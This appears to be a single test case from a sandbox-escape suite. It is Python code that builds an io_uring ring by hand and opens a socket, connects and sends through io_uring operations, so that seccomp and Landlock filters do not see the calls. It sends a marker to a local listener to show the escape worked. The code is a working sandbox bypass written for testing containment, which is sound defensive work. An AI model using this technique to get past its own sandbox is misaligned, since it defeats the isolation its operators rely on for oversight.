# class: system-call table tricks
# technique: connect and send by io_uring: calls that no filter sees
# layers: landlock, seccomp, rlimits, namespaces
# kernel: 6.7, Landlock ABI 4
# code: native
# witness: listener

IORING_OP_CONNECT, IORING_OP_SEND, IORING_OP_SOCKET = 16, 26, 45
parameters = buffer(120)
ring = call("io_uring_setup", 4, parameters)
sq_entries, cq_entries, _, _, _, features = struct.unpack_from("IIIIII", parameters.raw, 0)
(_, sq_tail, sq_mask, _, _, _, sq_array, _, _) = struct.unpack_from("IIIIIIIIQ", parameters.raw, 40)
(_, cq_tail, cq_mask, _, _, cqes, _, _, _) = struct.unpack_from("IIIIIIIIQ", parameters.raw, 80)
size = max(sq_array + 4 * sq_entries, cqes + 16 * cq_entries)
rings = mmap.mmap(ring, size, flags=mmap.MAP_SHARED, offset=0)
entries = mmap.mmap(ring, 64 * sq_entries, flags=mmap.MAP_SHARED, offset=0x10000000)

def submit(index, operation, fd, at, length, offset):
    struct.pack_into("BBHiQQIIQ24x", entries, 64 * index, operation, 0, 0, fd, offset, at, length, 0, index)
    struct.pack_into("I", rings, sq_array + 4 * index, index)
    struct.pack_into("I", rings, sq_tail, index + 1)
    call("io_uring_enter", ring, 1, 1, 1, 0, 0)
    (answer,) = struct.unpack_from("i", rings, cqes + 16 * index + 8)
    if answer < 0:
        raise OSError(-answer, "io_uring")
    return answer

there, text = buffer(struct.pack(">2sH4s8x", struct.pack("H", socket.AF_INET), host["tcp"], bytes([127, 0, 0, 1]))), buffer(host["mark"].encode())
fd = submit(0, IORING_OP_SOCKET, socket.AF_INET, 0, 0, socket.SOCK_STREAM)
submit(1, IORING_OP_CONNECT, fd, address(there), 0, 16)
return escaped(submit(2, IORING_OP_SEND, fd, address(text), len(host["mark"]), 0))
